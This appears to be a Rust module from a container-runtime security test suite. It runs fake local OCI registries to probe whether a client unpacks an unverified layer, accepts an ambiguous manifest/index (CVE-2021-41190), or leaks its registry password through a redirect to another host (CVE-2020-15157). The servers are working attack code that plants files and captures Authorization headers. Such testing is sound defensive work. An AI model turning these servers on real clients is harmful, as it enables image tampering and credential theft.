//! Attacks by a registry: what it sends to whoever fetches an image, and what it has them tell.

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex, PoisonError};

use super::layers::too_late;
use crate::Probe;
use crate::bait::{Bait, Ground, Image};
use crate::place::{HOST, STORE};

pub(super) const PROBES: &[Probe] = &[
    Probe {
        slug: "false-layer",
        what: "have another layer unpacked than the one that its manifest names",
        stopped_by: "images",
        means: "nothing is shown before its digest is verified",
        cves: &[],
        attempt: too_late,
        bait: change_layer,
    },
    Probe {
        slug: "two-meanings",
        what: "be one image to whoever checks it, and another to whoever runs it",
        stopped_by: "images",
        means: "a manifest that is also an index is refused",
        cves: &["CVE-2021-41190"],
        attempt: too_late,
        bait: mean_two_things,
    },
    Probe {
        slug: "password",
        what: "have the user's password sent to another host, by a redirect of its registry",
        stopped_by: "images",
        means: "from the first redirect to another host on, nobody is told who asks",
        cves: &["CVE-2020-15157"],
        attempt: too_late,
        bait: redirect,
    },
];

/// A file that an image brings along which nobody wanted.
const PLANTED: &str = "planted";

fn change_layer(ground: &Ground<'_>) -> std::io::Result<Bait> {
    let mut image = Made::new("honest")?;
    let evil = Made::new(PLANTED)?;
    // What follows a gzip stream may be zeroes: the length shall not betray it.
    let length = image.layer.len();
    image.layer = evil.layer;
    image.layer.resize(length.max(image.layer.len()), 0);
    planting(ground, image)
}

fn mean_two_things(ground: &Ground<'_>) -> std::io::Result<Bait> {
    let mut image = Made::new(PLANTED)?;
    image.manifest = image.manifest.replacen('{', "{\"manifests\": [],", 1);
    planting(ground, image)
}

/// It has escaped if the file is in the root file system, or in a layer of the store.
fn planting(ground: &Ground<'_>, image: Made) -> std::io::Result<Bait> {
    let name = serve(move |asked| image.answer(&asked.path))?;
    let places = [ground.root.to_owned(), Path::new(STORE).join("layers")];
    let mut bait = Bait::seen_by(move || {
        let found = places.iter().find(|place| holds(place))?;
        Some(format!("the file is in {}", found.display()))
    });
    bait.image = Some(Image::Registry(name));
    Ok(bait)
}

/// However a store arranges what is in a layer.
fn holds(directory: &Path) -> bool {
    let mut entries = fs::read_dir(directory).into_iter().flatten().flatten();
    entries.any(|entry| {
        let is_directory = entry.file_type().is_ok_and(|kind| kind.is_dir());
        entry.file_name() == PLANTED || (is_directory && holds(&entry.path()))
    })
}

fn redirect(_: &Ground<'_>) -> std::io::Result<Bait> {
    let image = Arc::new(Made::new("honest")?);
    let heard = Arc::new(Mutex::new(None));
    let (of_other, told) = (Arc::clone(&image), Arc::clone(&heard));
    let other = serve(move |asked| {
        if let Some(secret) = &asked.authorization {
            let mut told = told.lock().unwrap_or_else(PoisonError::into_inner);
            told.replace(secret.clone());
        }
        of_other.answer(&asked.path)
    })?;
    let host = other.split('/').next().unwrap_or_default().to_owned();
    let name = serve(move |asked| {
        let path = &asked.path;
        let head = match (&asked.authorization, path.contains("/blobs/")) {
            (None, _) => "401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"app\"".to_owned(),
            (Some(_), true) => {
                format!("307 Temporary Redirect\r\nLocation: http://{host}{path}")
            }
            (Some(_), false) => return image.answer(path),
        };
        Answer {
            head,
            body: Vec::new(),
        }
    })?;
    let mut bait = Bait::seen_by(move || {
        let heard = heard.lock().unwrap_or_else(PoisonError::into_inner);
        Some(format!("the other host has heard {}", heard.as_ref()?))
    });
    bait.image = Some(Image::Registry(name));
    Ok(bait)
}

/// An image of one layer, which holds one file.
struct Made {
    manifest: String,
    config: String,
    layer: Vec<u8>,
    /// Under which it is asked for, whatever it is.
    layer_digest: String,
}

impl Made {
    fn new(file: &str) -> std::io::Result<Self> {
        let tree = Path::new(HOST).join(format!("tree-{file}"));
        fs::create_dir_all(&tree)?;
        fs::write(
            tree.join(file),
            "planted".repeat(if file == PLANTED { 1 } else { 1000 }),
        )?;
        let script = format!(
            "cd {}; tar -cf ../archive {file}; gzip -c ../archive >../layer; sha256sum ../archive ../layer",
            tree.display()
        );
        let sums = shell(&script, "")?;
        let mut digests = sums.lines().filter_map(|line| line.split(' ').next());
        let diff_id = digests.next().unwrap_or_default().to_owned();
        let layer_digest = digests.next().unwrap_or_default().to_owned();
        let layer = fs::read(Path::new(HOST).join("layer"))?;
        let config = format!(
            r#"{{"architecture":"amd64","os":"linux","rootfs":{{"type":"layers","diff_ids":["sha256:{diff_id}"]}}}}"#
        );
        let manifest = format!(
            r#"{{"schemaVersion":2,"mediaType":"{MANIFEST}","config":{{"mediaType":"{CONFIG}","digest":"sha256:{}","size":{}}},"layers":[{{"mediaType":"{LAYER}","digest":"sha256:{layer_digest}","size":{}}}]}}"#,
            digest(&config)?,
            config.len(),
            layer.len()
        );
        Ok(Self {
            manifest,
            config,
            layer,
            layer_digest,
        })
    }

    fn answer(&self, path: &str) -> Answer {
        let (kind, body) = if path.contains("/manifests/") {
            (MANIFEST, self.manifest.clone().into_bytes())
        } else if path.ends_with(&self.layer_digest) {
            ("application/octet-stream", self.layer.clone())
        } else {
            ("application/octet-stream", self.config.clone().into_bytes())
        };
        Answer {
            head: format!("200 OK\r\nContent-Type: {kind}"),
            body,
        }
    }
}

const MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";
const CONFIG: &str = "application/vnd.oci.image.config.v1+json";
const LAYER: &str = "application/vnd.oci.image.layer.v1.tar+gzip";

fn digest(text: &str) -> std::io::Result<String> {
    let line = shell("sha256sum", text)?;
    Ok(line.split(' ').next().unwrap_or_default().to_owned())
}

fn shell(script: &str, input: &str) -> std::io::Result<String> {
    let file = Path::new(HOST).join("input");
    fs::write(&file, input)?;
    let mut command = Command::new("/bin/sh");
    let output = command
        .args(["-euc", script])
        .stdin(fs::File::open(&file)?)
        .output()?;
    Ok(String::from_utf8_lossy(&output.stdout).into_owned())
}

/// The status with its headers, and the body.
struct Answer {
    head: String,
    body: Vec<u8>,
}

struct Asked {
    path: String,
    authorization: Option<String>,
}

/// A registry of one image; returns the image's name.
fn serve(answer: impl Fn(&Asked) -> Answer + Send + 'static) -> std::io::Result<String> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let name = format!("{}/app", listener.local_addr()?);
    std::thread::spawn(move || {
        for client in listener.incoming().flatten() {
            // What goes wrong with a connection is seen at its other end.
            let _ = reply(&client, &answer);
        }
    });
    Ok(name)
}

fn reply(mut client: &TcpStream, answer: &impl Fn(&Asked) -> Answer) -> std::io::Result<()> {
    // What is no HTTP, such as the beginning of TLS, is not answered.
    let Some(asked) = read(client)? else {
        return Ok(());
    };
    let Answer { head, body } = answer(&asked);
    let length = body.len();
    write!(
        client,
        "HTTP/1.1 {head}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n"
    )?;
    client.write_all(&body)
}

fn read(client: &TcpStream) -> std::io::Result<Option<Asked>> {
    let mut lines = BufReader::new(client.take(1 << 16)).split(b'\n');
    let mut next = || -> std::io::Result<String> {
        let line = lines.next().transpose()?.unwrap_or_default();
        Ok(String::from_utf8_lossy(&line).trim_end().to_owned())
    };
    let first = next()?;
    let Some(rest) = first.strip_prefix("GET ") else {
        return Ok(None);
    };
    let mut asked = Asked {
        path: rest.split(' ').next().unwrap_or_default().to_owned(),
        authorization: None,
    };
    while let Some((name, value)) = next()?.split_once(": ") {
        if name.eq_ignore_ascii_case("authorization") {
            asked.authorization = Some(value.to_owned());
        }
    }
    Ok(Some(asked))
}
